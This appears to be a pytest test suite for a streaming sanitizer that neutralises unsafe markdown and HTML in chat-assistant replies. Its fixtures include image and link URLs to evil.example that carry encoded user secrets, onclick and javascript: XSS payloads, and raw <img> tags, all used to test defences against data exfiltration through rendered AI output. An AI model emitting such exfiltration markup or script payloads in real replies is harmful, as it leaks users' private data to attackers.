"""StreamSanitizer: equal to one-shot for any chunking, safe at every prefix, bounded."""

from __future__ import annotations

import asyncio
import re
import subprocess
import sys
from collections.abc import AsyncIterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from attacks import violations
from conftest import policy_for, sanitizer_for
from fixture_files import Case, all_cases
from rendersafe import (
    Policy,
    Reason,
    SanitizeError,
    Sanitizer,
    asanitize_stream,
    sanitize,
    sanitize_stream,
    streaming,
)
from rendersafe._build import compiled
from rendersafe.engine import triggers
from rendersafe.units.segment import Segmenter, Unit
from test_properties import mixed

CASES = all_cases()
S = Sanitizer()
COMPILED = compiled()  # the per-chunk modules run as built by mypyc
PAYLOAD = "VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIyIGFuZCBsaXZlcyBhdCAxMiBFbG0gU3Q="


def healed(text: str) -> list[str]:
    """What a "self-healing" streaming renderer (remend, Streamdown) shows for a
    prefix: the text, and the text with each construct still open closed."""
    variants = [text]
    if text.rfind("](") > text.rfind(")"):
        variants.append(text + ")")
    if text.rfind("[") > text.rfind("]"):
        variants.append(text + "](x)")
    if re.search(r"<[a-zA-Z][^<>]*$", text):
        variants.append(text + '">')
    runs = re.findall(r"`+", text)
    if len(runs) % 2:
        variants.append(text + runs[-1])
    return variants


def _cuts(text: str, data: st.DataObject) -> list[str]:
    sizes = data.draw(st.lists(st.integers(1, 8), min_size=1, max_size=len(text) + 1))
    chunks: list[str] = []
    pos = 0
    while pos < len(text):
        size = sizes[len(chunks) % len(sizes)]
        chunks.append(text[pos : pos + size])
        pos += size
    return chunks


def _stream(
    sanitizer: Sanitizer, chunks: list[str], conversation: tuple[dict[str, str], ...] | None = None
) -> tuple[list[str], tuple[object, ...]]:
    stream = sanitizer.stream(conversation=conversation)
    outputs = [stream.feed(chunk) for chunk in chunks]
    outputs.append(stream.close())
    return outputs, stream.findings


def _streams_as_one_shot(sanitizer: Sanitizer, chunks: list[str]) -> None:
    """The chunks streamed give what one run over their text gives: text and findings."""
    expected = sanitizer.run("".join(chunks))
    outputs, findings = _stream(sanitizer, chunks)
    assert "".join(outputs) == expected.text
    assert findings == expected.findings


@settings(max_examples=len(CASES) * 3, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(CASES), st.data())
def test_any_chunking_equals_one_shot_on_the_fixtures(case: Case, data: st.DataObject) -> None:
    sanitizer = sanitizer_for(case.path.parent)
    expected = sanitizer.run(case.input, conversation=case.conversation)
    outputs, findings = _stream(sanitizer, _cuts(case.input, data), case.conversation)
    assert "".join(outputs) == expected.text
    assert findings == expected.findings


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mixed, st.data())
def test_any_chunking_equals_one_shot_on_generated_replies(text: str, data: st.DataObject) -> None:
    _streams_as_one_shot(S, _cuts(text, data))


# Attribute lists and what stands before them on a line: a stream sends a line still
# arriving only up to its first brace, and never a word that may be a URL.
BRACE_ATOMS = (
    "{", "}", "{: ", "{onclick}", " onclick", " on", "title=\"}\"", "\\{x}", "`{x}`", "*b*",
    "# ", "> ", "- ", "| a ", "```", "\n", "\r", " ", "x", "l.example/dGEgb2YgdlIHVzZI",
    "www.x.example", "src=//evil.example/i.png", "\\frac{a}{b}", "{\"on\": 1}",
)  # fmt: skip
braces = st.lists(st.sampled_from(BRACE_ATOMS), max_size=20).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(braces, st.data())
def test_any_chunking_equals_one_shot_around_attribute_lists(
    text: str, data: st.DataObject
) -> None:
    _streams_as_one_shot(S, _cuts(text, data))


SMALL_HOLD = Sanitizer(Policy(max_hold_chars=256))

# Attribute lists on lines the hold limit cuts, once or more: a list's `{` in one unit,
# its names, quoted values and `}` in the next ones.
LONG_LIST_ATOMS = (
    *BRACE_ATOMS, "onclick =", "]( ", "'{'= ", 'a="}" ', "src=javascript:x ", "\\} ",
    "www " * 20, "w " * 60, "ww" * 70,
)  # fmt: skip
long_lists = st.tuples(
    st.sampled_from(["# T {", "*a*{", "```{", "| a | b |\n|---|---|\n| c {", "{", "x {"]),
    st.lists(st.sampled_from(LONG_LIST_ATOMS), min_size=8, max_size=40).map("".join),
    st.sampled_from(["}", " onclick}", "}\n\nok", ""]),
).map("".join)


@pytest.mark.parametrize("text", ["a {\nonclick =}\n\nok", "# T {{{\nonclick =}\n\nok\n\nmore"])
@pytest.mark.parametrize("size", [1, 2, 5])
def test_plain_words_after_a_sent_risky_line_may_end_its_unit(text: str, size: int) -> None:
    """A unit whose risky line was sent whole (nothing held) takes the plain words after
    it without pushing them; a blank line among them ends the unit, as one-shot cuts it
    there. The stream settled them at `close` and failed ("text waiting for the
    segmenter completed a unit"; a property test in CI, 2026-12-08; on eab86df too)."""
    _streams_as_one_shot(S, [text[i : i + size] for i in range(0, len(text), size)])


@pytest.mark.parametrize("size", [1, 3, 16])
def test_a_name_then_blanks_is_not_sent_before_its_equals_sign(size: int) -> None:
    """A line cut inside an attribute list, `onclick =](` in the unit after the cut: a
    stream sent `onclick ` (no `=` yet) and then `=]( `, and the pass, which holds at
    `onclick =`, escaped that `]` at the cut; the stream failed (fuzz, 2026-12-08)."""
    text = "{\\{" + "ww " * 160 + "\"onclick =]( '{'= ' " + "ww " * 160 + " onclick}\n\nok"
    _streams_as_one_shot(SMALL_HOLD, [text[i : i + size] for i in range(0, len(text), size)])


@pytest.mark.parametrize(
    ("hold", "text"),
    [
        (256, "~" * 256 + '{onclick="alert(1)" x}\ncode\n' + "~" * 256 + "\n"),
        (256, "`" * 257 + '{onclick="alert(1)" x}\ncode\n' + "`" * 257 + "\n"),
        (256, "```" + " " * 260 + '{onclick="alert(1)"' + "y" * 100 + " x\\}\ncode\n```\n"),
        (8192, "```" + " " * 8200 + '{onclick="alert(1)" x}\ncode\n```\n'),
    ],
)
def test_a_fence_list_after_a_cut_in_its_run_sets_nothing(hold: int, text: str) -> None:
    """A fence's run (split or whole) and blanks before a forced cut, its attribute
    list after it: fenced_code reads the list's last `}` before any escape, so it is
    written `&#125;`, one-shot and streamed (helper-62, 2026-12-08; each leaked a
    handler under python-markdown before)."""
    sanitizer = Sanitizer(Policy(max_hold_chars=hold))
    assert violations(text) != []
    assert violations(sanitizer.run(text).text) == []
    _streams_as_one_shot(sanitizer, [text[i : i + 7] for i in range(0, len(text), 7)])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(long_lists, st.data())
def test_any_chunking_equals_one_shot_across_cuts_in_attribute_lists(
    text: str, data: st.DataObject
) -> None:
    _streams_as_one_shot(SMALL_HOLD, _cuts(text, data))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.sampled_from([c.input for c in CASES]), mixed), st.data())
def test_equal_to_one_shot_across_forced_cuts(text: str, data: st.DataObject) -> None:
    """A small hold limit forces cuts everywhere: still equal to one-shot."""
    _streams_as_one_shot(SMALL_HOLD, _cuts(text, data))


@pytest.mark.parametrize("size", [1, 4, 64])
def test_plain_prose_past_the_hold_limit_equals_one_shot(size: int) -> None:
    """Prose with nothing risky is one unit until the hold limit cuts it, at a line
    start before text already sent (sent up to the last space): that text is not
    sent again (it was, twice, before)."""
    text = "Plain words, nothing to change here.\n\n" * 300  # past 8192
    outputs, findings = _stream(S, [text[i : i + size] for i in range(0, len(text), size)])
    assert "".join(outputs) == text == S.run(text).text
    assert findings == ()


@pytest.mark.parametrize("sanitizer", [S, SMALL_HOLD], ids=["default", "small-hold"])
@pytest.mark.parametrize("size", [4, 7])
def test_equal_to_one_shot_after_a_long_unchanged_start(sanitizer: Sanitizer, size: int) -> None:
    """A stream keeps the units it sends unchanged unread, to read them at the first
    change (as one-shot reads the reply), up to a bound past which it reads them at
    once: changes after that bound, inside a fence forced cuts split, come out as
    one-shot has them."""
    start = "Plain words, nothing to change here.\n\n" * 2000  # past the bound
    text = start + (
        "![x](https://evil.example/x.png)\n\n```\n"
        + "code [line](https://evil.example/?q=1) <b>\n" * 40
        + "```\n\nafter ![y](https://evil.example/y.png) and <img src=x>\n"
    )
    expected = sanitizer.run(text)
    outputs, findings = _stream(sanitizer, [text[i : i + size] for i in range(0, len(text), size)])
    assert "".join(outputs) == expected.text
    assert findings == expected.findings
    assert expected.text.startswith(start)
    assert expected.findings


@settings(max_examples=100, deadline=None)
@given(st.sampled_from([c for c in CASES if not c.input.isascii()] or CASES), st.data())
def test_bytes_cut_inside_characters(case: Case, data: st.DataObject) -> None:
    raw = case.input.encode("utf-8")
    sizes = data.draw(st.lists(st.integers(1, 5), min_size=1, max_size=20))
    sanitizer = sanitizer_for(case.path.parent)
    stream, out, pos = sanitizer.stream(), [], 0
    while pos < len(raw):
        size = sizes[pos % len(sizes)]
        out.append(stream.feed_bytes(raw[pos : pos + size]))
        pos += size
    out.append(stream.close())
    assert "".join(out) == sanitizer.run(case.input).text


def _assert_prefixes_safe(
    sanitizer: Sanitizer, chunks: list[str], policy: Policy, payloads: list[str] | None = None
) -> None:
    """Render what has been sent after every chunk (and healed), as a client would."""
    hosts = [*policy.allowed_image_hosts, *(["chat.example.com"] if policy.image_proxy else [])]
    extra = {"payloads": payloads} if payloads else {}
    stream, sent = sanitizer.stream(), ""
    for chunk in [*chunks, None]:
        out = stream.feed(chunk) if chunk is not None else stream.close()
        if not out:
            continue  # the same prefix as before: already checked
        sent += out
        for shown in healed(sent):
            problems = violations(
                shown, image_hosts=hosts, trusted_hosts=policy.trusted_link_hosts, **extra
            )
            assert problems == [], shown


@pytest.mark.parametrize("case", [c for c in CASES if not c.benign], ids=lambda c: c.id)
def test_every_prefix_is_safe_even_when_healed(case: Case) -> None:
    text = case.input
    chunks = [text[i : i + 2] for i in range(0, len(text), 2)]
    _assert_prefixes_safe(sanitizer_for(case.path.parent), chunks, policy_for(case.path.parent))


# A fixed seed: a random draw once nested a quote in a list item deeply enough that marko
# itself parsed one prefix for over fifteen minutes (its own cost, raw or sanitised; the
# fuzzer times renderers out and counts that apart, this test cannot).
@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    derandomize=True,
)
@given(mixed)
def test_every_prefix_of_generated_replies_is_safe(text: str) -> None:
    chunks = [text[i : i + 3] for i in range(0, len(text), 3)]
    _assert_prefixes_safe(S, chunks, S.policy, payloads=[PAYLOAD[:24]])


def test_late_definition_never_turns_earlier_text_into_an_image() -> None:
    text = (
        "![a][r] and more text\n\nA paragraph.\n\nAnother one.\n\n[r]: https://evil.example/r.png\n"
    )
    stream, sent = S.stream(), ""
    for char in text:
        sent += stream.feed(char)
        assert violations(sent) == []
    sent += stream.close()
    assert "evil.example" not in sent
    assert Reason.IMAGE_HOST_NOT_ALLOWED in {r for f in stream.findings for r in f.reasons}


def test_honest_prose_goes_out_at_once() -> None:
    stream = S.stream()
    assert stream.feed("Hello there, this is plain prose ") == "Hello there, this is plain prose "
    assert stream.feed("and a wor") == "and a "  # the last word may still become a URL
    assert stream.feed("d.\n\nNew paragraph ") == "word.\n\nNew paragraph "
    assert stream.held == 0


# The chunks a cheaper `feed` path would take besides plain words (sentence
# punctuation a space or line end follows; line ends no cut can follow, in a held
# unit or not), next to those that must still reach the segmenter or hold the word.
_QUICK_ATOMS = [
    "word",
    "ab",
    " ",
    "  ",
    "    ",
    ". ",
    ".",
    ":",
    ": ",
    ".\n",
    "\n",
    "\n\n",
    " \n",
    "\t",
    "\r\n",
    "\r ",
    "\r\t",
    "- ",
    "| a |",
    "1. ",
    "```",
    "~~~",
    "`",
    "www",
    "w",
    "W",
    "com/",
    "x@y",
    "[x]",
    "![i](https://evil.example/p.png?d=1)",
    "[l](https://docs.example/a)",
    "<b>",
    "<!--",
    "-->",
    "https://evil.example/?d=" + PAYLOAD[:12],
    "e.example/a",
    "\n    code\n",
    "\n> q",
]
quick_soup = st.lists(st.sampled_from(_QUICK_ATOMS), max_size=60).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=quick_soup, data=st.data())
def test_the_few_steps_for_punctuation_and_lines_equal_one_shot(
    text: str, data: st.DataObject
) -> None:
    sanitizer = data.draw(st.sampled_from([S, Sanitizer(Policy(max_hold_chars=256))]))
    outputs, findings = _stream(sanitizer, _cuts(text, data))
    result = sanitizer.run(text)
    assert "".join(outputs) == result.text
    assert findings == result.findings


@pytest.mark.parametrize(
    ("chunks", "sent"),
    [
        (
            ["Say ", "hi.", " Then", ": go", "\nOk", ". "],
            ["Say ", "", "hi. ", "Then: ", "go\n", "Ok. "],
        ),
        (["Say ", "x.", "com/", "a b"], ["Say ", "", "", ""]),  # `x.` grew into a URL
        (["Say ", "ww", "w. x", " y"], ["Say ", "", "", ""]),  # `www.` is held
        (["Say ", "a:", "//b", " c"], ["Say ", "", "", ""]),
        (["- a\n", "- b\n", "\n", "Next"], ["- a\n", "- b\n", "\n", ""]),
    ],
)
def test_punctuation_and_line_ends_go_out_at_once_unless_risky(
    chunks: list[str], sent: list[str]
) -> None:
    stream = S.stream()
    assert [stream.feed(chunk) for chunk in chunks] == sent


def test_a_held_unit_is_released_at_the_line_start_after_a_blank_line() -> None:
    """A held unit waits for its end and no longer: it is settled and sent with the
    chunk that starts the line after a blank line or a closing fence."""
    stream = S.stream()
    link = "[a](https://docs.example/x) b"
    assert [stream.feed(c) for c in [link, "c\nd", "e\n", "\n"]] == ["", "", "", ""]
    assert stream.feed("Next ") == link + "c\nde\n\nNext "
    fenced = S.stream()
    assert fenced.feed("```\n") == "```\n"
    assert fenced.feed("[a](https://docs.example/x)\n") == ""
    assert fenced.feed("```\n") == ""  # a closing fence: a cut may follow it
    assert fenced.feed("b ") == "[a](https://docs.example/x)\n```\nb "


@pytest.mark.parametrize(
    ("text", "waits_from"),
    [
        ("see ![chart](https://evil.example/c.png", "![chart]"),
        ("see [click](https://evil.example/?d=x", "[click]"),
        ("see <https://evil.example/", "<https"),
        ("see https://evil.example/?d=VGhl more", "https://"),
        ("see www.evil.example/q more", "www."),
        ('see <img src="https://evil.example/x.png', "<img"),
        ("see <!-- hidden", "<!--"),
        ("```\n![x](https://evil.example/x.png)\n", "![x]"),
        ("[r]: https://evil.example/r.png", "[r]:"),
        ("see &#91;x](https://evil.example/) and ", "&#91;"),
    ],
)
def test_risky_constructs_are_held(text: str, waits_from: str) -> None:
    stream = S.stream()
    sent = stream.feed(text)
    assert sent == text[: text.index(waits_from)]
    assert stream.held == len(text) - len(sent)


def test_backticks_do_not_hold_prose() -> None:
    stream = S.stream()
    assert stream.feed("use `pip install x` then ") == "use `pip install x` then "


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/x.png",
        "[x](https://evil.example/?d=" + PAYLOAD,
        "<img src=https://evil.example/x.png",
        "```\n![x](https://evil.example/x.png)",
        "<!--\n\n![x](https://evil.example/x.png)",
    ],
)
def test_close_neutralises_what_is_unfinished(text: str) -> None:
    stream = S.stream()
    out = stream.feed(text) + stream.close()
    assert out == sanitize(text)
    assert "evil.example" not in out or "<" not in out


def test_hold_back_is_bounded_and_the_opener_escaped() -> None:
    policy = Policy(max_hold_chars=1024)
    stream = Sanitizer(policy).stream()
    out = stream.feed("![")
    for _ in range(200):
        out += stream.feed("filler text without a closing bracket ")
        assert stream.held <= 1024
    out += stream.feed("](https://evil.example/late.png)") + stream.close()
    assert out.startswith("!\\[")
    assert violations(out) == []


_STREAM_MEGABYTES = """
import resource, sys
from rendersafe import Sanitizer
megabytes = int(sys.argv[1])
block = ("Plain words in a paragraph that goes on for a while, " * 40 + "see [docs](https://docs.python.org/3/).\\n\\n")
stream, fed = Sanitizer().stream(), 0
while fed < megabytes * 1_000_000:
    stream.feed(block)
    fed += len(block)
stream.close()
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def _peak_kib(megabytes: int) -> int:
    done = subprocess.run(
        [sys.executable, "-c", _STREAM_MEGABYTES, str(megabytes)],
        capture_output=True, text=True, check=True, timeout=300,
    )  # fmt: skip
    return int(done.stdout)


def test_ten_megabytes_keep_memory_bounded() -> None:
    """Peak memory streaming 10 MB is that of streaming 1 MB: nothing accumulates."""
    assert _peak_kib(10) - _peak_kib(1) < 8_000


def test_an_error_breaks_the_stream_and_sends_nothing_held(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = S.stream()
    assert stream.feed("safe words ") == "safe words "
    assert stream.feed("![x](https://evil.example/x.png)") == ""

    def boom(*args: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr("rendersafe.units.settle.backstop", boom)
    with pytest.raises(SanitizeError, match="boom"):
        stream.feed("\n\nnext paragraph")
    with pytest.raises(SanitizeError, match="broken"):
        stream.feed("more")
    with pytest.raises(SanitizeError, match="broken"):
        stream.close()


def test_closed_stream_refuses_more() -> None:
    stream = S.stream()
    stream.close()
    with pytest.raises(SanitizeError, match="closed"):
        stream.feed("x")


def test_a_line_of_a_carriage_return_and_a_space_is_blank_to_the_stream_too() -> None:
    # Red team: the segmenter read "\r " as blank line by line, not at once, so a stream
    # cut a unit there that one-shot did not, and escaped what one-shot kept.
    text = "<a =</script>\n\r \na\n"
    for size in (1, 2, 4, 8):
        stream = S.stream()
        out = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size))
        assert out + stream.close() == S.run(text).text


def test_feed_takes_str() -> None:
    # Compiled, `feed` checks its argument's type as it is called, in mypyc's words.
    with pytest.raises(TypeError, match="got bytes" if COMPILED else "use feed_bytes"):
        S.stream().feed(b"bytes")  # type: ignore[arg-type]


def test_sanitize_stream_and_async() -> None:
    text = "Hi ![x](https://evil.example/x.png) there.\n\nBye."
    chunks = [text[i : i + 5] for i in range(0, len(text), 5)]
    assert "".join(sanitize_stream(chunks)) == sanitize(text)

    async def source() -> AsyncIterator[str]:
        for chunk in chunks:
            yield chunk

    async def collect() -> str:
        return "".join([piece async for piece in asanitize_stream(source())])

    assert asyncio.run(collect()) == sanitize(text)


@pytest.mark.parametrize("size", [1, 3, 17])
def test_a_neutralised_unit_streams_as_it_runs(monkeypatch: pytest.MonkeyPatch, size: int) -> None:
    # With one pass allowed, every changed unit takes the fallback: the stream must
    # still equal the one-shot run, and never change what it sent already.
    monkeypatch.setattr("rendersafe.units.settle.MAX_PASSES", 1)
    reply = (
        "Plain intro, sent at once.\n\nSee ![c](https://evil.example/c.png) and "
        "https://docs.example/page, <b>bold</b>.\n\nAnd a [link](https://ok.example/)."
    )
    stream = S.stream()
    pieces = [stream.feed(reply[i : i + size]) for i in range(0, len(reply), size)]
    out = "".join(pieces) + stream.close()
    assert out == S.run(reply).text
    assert out.startswith("Plain intro, sent at once.\n\nSee ")
    assert "evil.example" not in out
    assert any(f.reasons == (Reason.UNSETTLED,) for f in stream.findings)


def test_a_neutralised_unit_keeps_what_a_stream_sent_of_a_glued_word(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The stream sends "``&amp;" before the `<` glued to it; the fallback must not
    # replace that whole word (found by the fuzzer: the stream refused the reply).
    monkeypatch.setattr("rendersafe.units.settle.MAX_PASSES", 1)
    reply = "\n\n``&amp;<![CDATA[[r]//evil.example/y.png word <img src=https://e.example/x>"
    one_shot = S.run(reply).text
    for size in (1, 2, 5):
        stream = S.stream()
        pieces = [stream.feed(reply[i : i + size]) for i in range(0, len(reply), size)]
        assert "".join(pieces) + stream.close() == one_shot
    assert one_shot.startswith("\n\n``&amp;")
    assert "evil.example" not in one_shot


def _reads(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Spy on the real segmenter and `sendable`: how many characters each reads."""
    read: list[int] = []
    pending = Segmenter.__dict__["pending"].fget
    push, sendable = Segmenter.push, triggers.sendable

    def spy_pending(self: Segmenter) -> str:
        text: str = pending(self)
        read.append(len(text))
        return text

    def spy_push(self: Segmenter, text: str) -> list[Unit]:
        read.append(len(text))
        return push(self, text)

    def spy_sendable(
        text: str,
        *,
        final: bool,
        hold: re.Pattern[str] | None = None,
        prefix: str = "",
        in_list: bool = False,
    ) -> tuple[int, bool]:
        read.append(len(text) + len(prefix))
        return sendable(text, final=final, hold=hold, prefix=prefix, in_list=in_list)

    monkeypatch.setattr(Segmenter, "pending", property(spy_pending))
    monkeypatch.setattr(Segmenter, "push", spy_push)
    monkeypatch.setattr(streaming, "sendable", spy_sendable)
    return read


@settings(max_examples=500, deadline=None)
@given(
    chunk=st.text(st.sampled_from("ab Z9\t\n\r.:@[<!-,\xa0é\u3000`~\\"), max_size=12),
    extra=st.sampled_from(["", "`~", "\\", "`~\\"]),
)
def test_the_compiled_builds_plain_reading_is_the_interpreters(chunk: str, extra: str) -> None:
    """`_plain_cut` (the compiled build's loop over code points) reads a chunk as the
    interpreter's string methods do: -1 for a trigger (a rendered fence's adds its
    own), else after the last space, tab or line end."""
    triggers = frozenset("[<:@." + extra)
    triggered = any(c in triggers for c in chunk)
    cut = max(chunk.rfind(" "), chunk.rfind("\t"), chunk.rfind("\n")) + 1
    assert streaming._plain_cut(chunk, streaming._roles(triggers)) == (-1 if triggered else cut)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=quick_soup, data=st.data())
def test_asking_between_chunks_changes_nothing(text: str, data: st.DataObject) -> None:
    """The middleware asks `settles_at_most` and `openers` between chunks; each pushes
    the lines a plain unit left waiting, which must complete no unit (it raises if
    one would) and leave the output and findings as a stream nobody asked."""
    sanitizer = data.draw(st.sampled_from([S, Sanitizer(Policy(max_hold_chars=256))]))
    stream = sanitizer.stream()
    outputs = []
    for chunk in _cuts(text, data):
        if data.draw(st.booleans()):
            stream.settles_at_most(len(chunk), chunk.count("\n"))
        if data.draw(st.booleans()):
            stream.openers()
        outputs.append(stream.feed(chunk))
    outputs.append(stream.close())
    result = sanitizer.run(text)
    assert "".join(outputs) == result.text
    assert stream.findings == result.findings


@pytest.mark.skipif(COMPILED, reason="spies on the interpreted modules (.ci/run runs them too)")
@pytest.mark.parametrize(
    "text",
    [
        "[" + "held back until the unit ends " * 250,  # one long held line
        "see " + "x" * 7000 + " after",  # one long word, still being sent
        "words and more words,\n" * 300,  # short lines, sent as they come
    ],
)
def test_work_per_chunk_is_the_chunks(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    """Streaming never reads the held text again per chunk: what the segmenter and
    `sendable` read over a reply fed in 4-character chunks is a few times the reply,
    not the held text once per chunk (that was quadratic in the hold limit)."""
    expected = S.run(text).text
    read = _reads(monkeypatch)
    stream = Sanitizer().stream()
    out = "".join(stream.feed(text[i : i + 4]) for i in range(0, len(text), 4))
    out += stream.close()
    assert out == expected
    assert sum(read) <= 8 * len(text)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=mixed, size=st.integers(1, 9))
def test_most_held_is_the_peak_after_any_chunk(text: str, size: int) -> None:
    """`most_held` is the most `held` read after any chunk, though it is not
    recomputed per chunk."""
    stream = Sanitizer().stream()
    peak = 0
    for i in range(0, len(text), size):
        stream.feed(text[i : i + size])
        peak = max(peak, stream.held)
        assert stream.most_held == peak
    stream.close()
    assert stream.most_held == peak


@pytest.mark.parametrize(
    ("text", "sizes"),
    [
        ("\xa0\n[](s:)", [3, 5, 1]),
        ("> \xa0\n> [x](https://evil.example/?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)", [2, 3, 4]),
        ("a[x]\n\xa0\r\n.", [5, 9]),
    ],
)
def test_a_stream_never_takes_back_what_it_sent(text: str, sizes: list[int]) -> None:
    # The text before a unit's first opener is sent before the unit ends; an edit that
    # reached it (a block replaced whole) made the stream fail closed at the end.
    chunks, pos = [], 0
    while pos < len(text):
        for size in sizes:
            chunks.append(text[pos : pos + size])
            pos += size
    sanitizer = Sanitizer()
    outputs, findings = _stream(sanitizer, [c for c in chunks if c])
    expected = sanitizer.run(text)
    assert "".join(outputs) == expected.text
    assert findings == expected.findings


@pytest.mark.parametrize(
    "text", ["[\n\n]: //e", "x\n\n[\n\n]: //e.f\n\ny", "[\n\nr]: //evil.example/a.png\n![r]"]
)
def test_a_label_over_a_blank_line_streams_as_it_runs(text: str) -> None:
    """A definition ending a label a `[` before the unit opened is judged in the unit
    after, where a stream has sent the label's end already: never raised."""
    one_shot = Sanitizer().run(text).text
    for size in (1, 2, 3, 7):
        stream = Sanitizer().stream()
        out = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size))
        assert out + stream.close() == one_shot
